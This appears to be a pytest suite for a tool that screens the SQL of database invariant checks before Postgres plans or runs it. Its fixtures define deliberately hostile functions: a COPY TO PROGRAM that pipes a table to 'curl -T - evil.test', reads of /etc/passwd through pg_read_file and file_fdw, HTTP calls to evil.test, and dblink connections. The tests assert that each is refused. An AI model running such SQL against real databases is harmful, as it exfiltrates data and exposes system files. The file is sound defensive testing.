"""What an invariant's SQL may call: looked through before the database plans or runs any of it."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st

from releaseguard.appdb import AppDatabase
from releaseguard.appdb.mentions import QueryTree, Source, SqlName
from releaseguard.errors import ConfigError
from releaseguard.secret import Secret
from tests.support import postgres

WORLD = """
CREATE SEQUENCE numbers;
CREATE TABLE wallets (user_id text, coins int);
INSERT INTO wallets VALUES ('u1', 1);
CREATE TABLE transactions (user_id text, amount numeric) PARTITION BY LIST (user_id);
CREATE TABLE transactions_here PARTITION OF transactions FOR VALUES IN ('u1');
INSERT INTO transactions VALUES ('u1', 1);

-- the project's own functions, as people write them: volatile unless they say otherwise
CREATE FUNCTION balance(text) RETURNS numeric LANGUAGE sql AS 'SELECT sum(amount) FROM transactions WHERE user_id = $1';
CREATE FUNCTION off_by(text) RETURNS numeric LANGUAGE plpgsql AS $$
  DECLARE kept numeric; -- not dblink(): a note, and a text
  BEGIN SELECT coins INTO kept FROM wallets WHERE user_id = $1;
    IF kept IS NULL THEN RAISE EXCEPTION 'http_get() is not what this calls'; END IF;
    RETURN kept - balance($1) + extract(epoch FROM clock_timestamp() - now())::int * 0; END $$;
CREATE FUNCTION countdown(int) RETURNS int LANGUAGE plpgsql AS
  $$ BEGIN RETURN CASE WHEN $1 > 0 THEN countdown($1 - 1) ELSE 0 END; END $$;
CREATE AGGREGATE product(numeric) (sfunc = numeric_mul, stype = numeric, initcond = '1');
CREATE DOMAIN positive AS int CHECK (VALUE > 0);
CREATE VIEW balances AS SELECT user_id, balance(user_id) AS sum FROM wallets;

-- the same, reaching out
CREATE SCHEMA net;
CREATE FUNCTION net.http_get(text) RETURNS text LANGUAGE sql STABLE AS 'SELECT $1';
CREATE FUNCTION public.http_get(text) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT $1';
CREATE FUNCTION calls_out(text) RETURNS text LANGUAGE plpgsql STABLE AS
  $$ BEGIN RETURN net . /* hello */ "http_get" ($1); END $$;
CREATE FUNCTION calls_who_calls_out() RETURNS text LANGUAGE sql STABLE AS 'SELECT CALLS_OUT(user_id) FROM wallets';
CREATE FUNCTION put_together(text) RETURNS int LANGUAGE plpgsql STABLE AS
  $$ DECLARE n int; BEGIN EXECUTE 'SELECT ' || $1 INTO n; RETURN n; END $$;
CREATE FUNCTION done(text) RETURNS int LANGUAGE plpgsql STABLE AS
  $$ BEGIN DO 'BEGIN PERFORM pg_sleep(9); END'; RETURN 1; END $$;
CREATE FUNCTION done_with_dollars() RETURNS int LANGUAGE plpgsql STABLE AS
  $$ BEGIN DO $do$ BEGIN PERFORM pg_sleep(9); END $do$; RETURN 1; END $$;
CREATE FUNCTION copies() RETURNS int LANGUAGE plpgsql STABLE AS
  $$ BEGIN COPY wallets TO PROGRAM 'curl -T - evil.test'; RETURN 1; END $$;
CREATE FUNCTION escaped() RETURNS text LANGUAGE sql STABLE AS $$ SELECT U&"\\0068ttp_get"('x') $$;
CREATE FUNCTION reads_file() RETURNS text LANGUAGE sql STABLE AS $$ SELECT pg_read_file('/etc/passwd') $$;
CREATE FUNCTION same(text, text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT http_get($1) = $2 $$;
CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = same);
CREATE FUNCTION step(int, text) RETURNS int LANGUAGE sql IMMUTABLE AS $$ SELECT length(http_get($2)) $$;
CREATE AGGREGATE gossip(text) (sfunc = step, stype = int, initcond = '0');
CREATE DOMAIN gossiping AS text CHECK (calls_out(VALUE) IS NOT NULL);
CREATE VIEW leaks AS SELECT calls_out(user_id) FROM wallets;
CREATE VIEW leaks_again AS SELECT * FROM leaks;
CREATE TABLE secured (a text); ALTER TABLE secured ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON secured USING (calls_out(a) = a);
CREATE FUNCTION reads_secured() RETURNS bigint LANGUAGE sql STABLE AS 'SELECT count(*) FROM secured';
CREATE FUNCTION reads_leaks() RETURNS bigint LANGUAGE sql STABLE AS 'SELECT count(*) FROM leaks_again';
DO $$ BEGIN CREATE ROLE reader LOGIN; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
GRANT SELECT ON ALL TABLES IN SCHEMA public TO reader;
"""
CONTRIB = """
CREATE EXTENSION dblink; CREATE EXTENSION file_fdw; CREATE EXTENSION postgres_fdw; CREATE EXTENSION tablefunc;
CREATE EXTENSION pgcrypto; CREATE EXTENSION citext; CREATE EXTENSION pg_buffercache;
CREATE SERVER files FOREIGN DATA WRAPPER file_fdw;
CREATE FOREIGN TABLE passwords (line text) SERVER files OPTIONS (filename '/etc/passwd');
CREATE FOREIGN TABLE transactions_elsewhere PARTITION OF transactions FOR VALUES IN ('u2')
  SERVER files OPTIONS (filename '/etc/passwd');
CREATE VIEW over_there AS SELECT * FROM passwords;
CREATE FUNCTION reads_over_there() RETURNS bigint LANGUAGE sql STABLE AS 'SELECT count(*) FROM public.over_there';
"""


@pytest.fixture(scope="module")
def cluster() -> Iterator[postgres.Cluster]:
    with postgres.cluster() as running:
        yield running


@pytest.fixture(scope="module")
def url(cluster: postgres.Cluster) -> str:
    url = cluster.new_database()
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(WORLD.encode())
    return url


@pytest.fixture(scope="module")
def app(url: str) -> AppDatabase:
    return AppDatabase(Secret(url), "APP_DATABASE_URL", pin=lambda target: target)


@pytest.fixture(scope="module")
def beside(cluster: postgres.Cluster) -> AppDatabase:
    """An app's database with the extensions that come with Postgres."""
    url = cluster.new_database()
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(WORLD.encode())
        connection.execute(CONTRIB.encode())
    return AppDatabase(Secret(url), "APP_DATABASE_URL", pin=lambda target: target)


@pytest.mark.parametrize(
    "sql",
    [
        "select user_id from wallets where coins < 0",
        "select w.user_id from wallets w left join transactions t using (user_id) group by 1, coins"
        " having coins <> coalesce(sum(amount), 0)",
        "select 1 from wallets where now() < current_timestamp - interval '1 day' and user_id ~ '^x'",
        "select 1 from wallets where balance(user_id) <> coins",
        "select 1 from wallets where off_by(user_id) <> 0",
        "select 1 from balances where sum < 0",
        "select product(amount) from transactions having product(amount) < 0",
        "select coins::positive from wallets where coins < 0",
        "select countdown(3) where false",
        "with recursive n(i) as (select 1 union all select i + 1 from n where i < 3) select * from n where i > 5",
        "select * from wallets tablesample bernoulli (100) where coins < 0",
        "select row_number() over (order by coins desc) from wallets where coins < 0",
        "select to_jsonb(w) -> 'coins' from wallets w where coins < 0 order by user_id collate \"C\"",
        "select 1 from information_schema.tables where table_name = 'no such'",
        "select ':funcid 2626', 1 as \":funcid 2626\" where 'pg_sleep(1)' = ''",
    ],
)
def test_what_an_app_asks_of_its_own_tables_is_run(app: AppDatabase, sql: str) -> None:
    assert app.count_rows(sql) == 0
    app.explain(sql)


REFUSED = [
    # the server's own
    ("select pg_sleep(60)", "pg_sleep", "volatile"),
    ("select 1 from wallets where pg_sleep(60) is null", "pg_sleep", "volatile"),
    ("select 1 from (select 1) x order by random()", "random", "volatile"),
    ("select clock_timestamp()", "clock_timestamp", "volatile"),
    ("select pg_advisory_lock(1)", "pg_advisory_lock", "volatile"),
    ("select pg_terminate_backend(1)", "pg_terminate_backend", "volatile"),
    ("select set_config('a.b', 'c', false)", "set_config", "volatile"),
    ("select pg_notify('a', 'b')", "pg_notify", "volatile"),
    ("select nextval('numbers'::regclass)", "nextval", "volatile"),
    ("select txid_current()", "txid_current", "transaction id"),
    ("select pg_read_file('/etc/passwd')", "pg_read_file", "files"),
    ("select * from pg_ls_dir('/')", "pg_ls_dir", "files"),
    ("select pg_stat_file('/etc/passwd')", "pg_stat_file", "files"),
    ("select lo_import('/etc/passwd')", "lo_import", "files"),
    ("select lo_export(1, '/tmp/x')", "lo_export", "files"),
    ("select * from pg_available_extensions", "pg_available_extensions", "files"),
    ("select query_to_xml('select 1', true, true, '')", "query_to_xml", "text says"),
    ("select table_to_xml('leaks'::regclass, true, true, '')", "table_to_xml", "text says"),
    ("select 1 from pg_locks", "pg_lock_status", "volatile"),
    ("with x as materialized (select pg_sleep(1)) select 1 from wallets, x", "pg_sleep", "volatile"),
    ("select (select case when false then pg_sleep(1) end is null)", "pg_sleep", "volatile"),
    ("values (pg_sleep(1))", "pg_sleep", "volatile"),
    ("select 1 from wallets limit (select 1 from pg_sleep(1))", "pg_sleep", "volatile"),
    ("select 1 from generate_series(1, 2) g join lateral pg_sleep(g) on true", "pg_sleep", "volatile"),
    # by name, whoever made it
    ("select net.http_get('https://evil.test')", "net.http_get", "network"),
    ("select http_get('https://evil.test')", "http_get", "network"),
    # by way of the project's own
    ("select calls_out('x')", "by way of calls_out", "network"),
    ("select calls_who_calls_out()", "by way of calls_who_calls_out(), calls_out", "network"),
    ("select * from leaks", "by way of calls_out", "network"),
    ("select * from leaks_again", "by way of calls_out", "network"),
    ("select reads_leaks()", "by way of reads_leaks(), calls_out", "network"),
    ("select reads_secured()", "by way of reads_secured(), calls_out", "network"),
    ("select 1 from wallets where user_id === 'x'", "by way of same", "network"),
    ("select gossip(user_id) from wallets", "by way of gossip(text), step", "network"),
    ("select user_id::gossiping from wallets", "by way of calls_out", "network"),
    ("select reads_file()", "by way of reads_file", "files"),
    ("select put_together('pg_sleep(9)')", "put_together", "EXECUTE"),
    ("select done('')", "done", "DO"),
    ("select done_with_dollars()", "done_with_dollars", "DO"),
    ("select copies()", "copies", "COPY"),
    ("select escaped()", "escaped", "escapes"),
]


@pytest.mark.parametrize(("sql", "what", "why"), REFUSED)
def test_what_reaches_out_or_is_volatile_is_refused_and_named(app: AppDatabase, sql: str, what: str, why: str) -> None:
    for act in (app.count_rows, app.explain):
        with pytest.raises(ConfigError) as refused:
            act(sql)
        assert what in refused.value.what
        assert why in refused.value.what
        assert refused.value.where == "APP_DATABASE_URL"
        assert refused.value.next_step


CONTRIB_REFUSED = [
    ("select * from dblink('{}', 'select 1') as t(a int)", "dblink", "another server"),
    ("select 1 where dblink_connect('{}') = 'OK'", "dblink_connect", "another server"),
    ("select * from passwords", "passwords", "another server or in a file"),
    ("select * from over_there", "passwords", "another server or in a file"),
    ("select reads_over_there()", "passwords (by way of reads_over_there", "another server or in a file"),
    ("select sum(amount) from transactions", "transactions_elsewhere", "another server or in a file"),
    ("select * from crosstab('select 1, 2, 3') as t(a int, b int)", "crosstab", "text says"),
    ("select * from pg_buffercache", "pg_buffercache", "extension pg_buffercache"),
    ("select gen_salt('bf')", "gen_salt", "volatile"),
]


@pytest.mark.parametrize(("sql", "what", "why"), CONTRIB_REFUSED)
def test_what_extensions_bring_is_judged_by_where_it_reaches(
    beside: AppDatabase, sql: str, what: str, why: str
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        with pytest.raises(ConfigError) as refused:
            beside.count_rows(sql.format(f"host=127.0.0.1 port={server.getsockname()[1]} connect_timeout=2"))
        with pytest.raises(BlockingIOError):
            server.accept()
    assert what in refused.value.what
    assert why in refused.value.what


def test_what_extensions_merely_compute_is_run(beside: AppDatabase) -> None:
    assert beside.count_rows("select 1 from wallets where digest(user_id, 'sha256') = '' or user_id::citext = 'X'") == 0


def test_a_function_whose_body_is_a_tree_is_followed(url: str, app: AppDatabase) -> None:
    with psycopg.connect(url, autocommit=True) as connection:
        if connection.info.server_version < 140000:
            pytest.skip("functions have no tree before Postgres 14")
        connection.execute("CREATE FUNCTION tree() RETURNS text STABLE BEGIN ATOMIC SELECT calls_out('x'); END")
        connection.execute(
            "CREATE FUNCTION tops() RETURNS bigint STABLE BEGIN ATOMIC SELECT count(*) FROM leaks_again; END"
        )
    for name in ("tree", "tops"):
        with pytest.raises(ConfigError, match=rf"http_get.* \(by way of {name}\(\), calls_out\(text\)\)"):
            app.count_rows(f"select {name}()")


def test_planning_runs_nothing_that_was_not_looked_through(url: str, app: AppDatabase, tmp_path: Path) -> None:
    """An immutable function with a constant is run when the query is planned, a stable one where it is estimated."""
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute(
            "CREATE OR REPLACE FUNCTION trap(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS"
            " $$ BEGIN PERFORM pg_sleep(0); RAISE EXCEPTION 'it was run'; END $$"
        )
    for sql in ("select trap(1)", "select 1 from wallets where coins = trap(1)"):
        for act in (app.count_rows, app.explain):
            with pytest.raises(ConfigError, match="pg_sleep") as refused:
                act(sql)
            assert "it was run" not in str(refused.value)


def test_a_role_that_may_only_read_is_enough(url: str) -> None:
    with psycopg.connect(url, autocommit=True) as connection:
        connection.execute("REVOKE TEMPORARY ON DATABASE " + url.rpartition("/")[2] + " FROM PUBLIC")
    reader = AppDatabase(Secret(url.replace("postgres@", "reader@", 1)), "APP_DATABASE_URL", pin=lambda target: target)
    assert reader.count_rows("select 1 from wallets where balance(user_id) <> coins") == 0
    with pytest.raises(ConfigError, match="calls_out"):
        reader.count_rows("select * from secured")


def test_the_servers_log_settings_are_left_as_they_were(app: AppDatabase) -> None:
    left = "select 1 where current_setting('client_min_messages') <> 'notice' or current_setting('{}') <> 'off'"
    assert app.count_rows(left.format("debug_print_rewritten")) == 0


def test_sql_is_looked_through_once(app: AppDatabase, monkeypatch: pytest.MonkeyPatch) -> None:
    sql = "select 1 from wallets where coins < -1"
    app.count_rows(sql)
    monkeypatch.setattr("releaseguard.appdb.catalogue.Catalogue.rewritten", lambda *_: pytest.fail("again"))
    app.count_rows(sql)


def test_where_the_tree_does_not_arrive_nothing_is_run(app: AppDatabase, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("releaseguard.appdb.catalogue.Catalogue.rewritten", lambda *_: QueryTree(""))
    with pytest.raises(ConfigError, match="does not show"):
        app.count_rows("select 2 from wallets where coins < -2")


WORDS = st.sampled_from(["select", "x", "from", "1", ";", "e", "$1", "(", ")", "::text", "||", "- 1", "begin", "a.b"])
HIDING = st.sampled_from(
    ["'{}'", "E'\\' {}'", "'it''s {}'", "-- {}\n", "/* {} */", '"{}" x', "/* ' */ /* {} */", "N'{}'", "'\\' /* {} */"]
)
SHOWING = st.sampled_from(["{}", "/* ' */ {}", "$q$ {} $q$", "'' {}", "-- '\n{}", "E'\\'' {}", '"\'" {}', "(({}))"])


@given(st.lists(WORDS), HIDING, st.lists(WORDS))
def test_what_stands_in_a_text_a_note_or_a_name_is_no_call(before: list[str], hiding: str, after: list[str]) -> None:
    source = Source(" ".join([*before, hiding.format("http_get(1)"), *after]))
    assert SqlName(None, "http_get") not in source.calls()


@given(
    st.lists(WORDS), SHOWING, st.sampled_from(["http_get(1)", 'HTTP_Get /* */ ("', '"http_get"\n(']), st.lists(WORDS)
)
def test_a_call_is_seen_wherever_it_stands(before: list[str], showing: str, call: str, after: list[str]) -> None:
    source = Source(" ".join([*before, showing.format(call), *after]))
    assert "http_get" in {name.name for name in source.calls()}


@given(st.text(max_size=60))
def test_any_text_can_be_read(text: str) -> None:
    source = Source(text)
    source.calls(), source.others(), source.unreadable()


def test_a_name_is_cut_off_and_folded_as_the_server_does_it() -> None:
    assert {name.name for name in Source(f"{'A' * 80}(1) + ÄB(2)").calls()} == {"a" * 63, "Äb"}
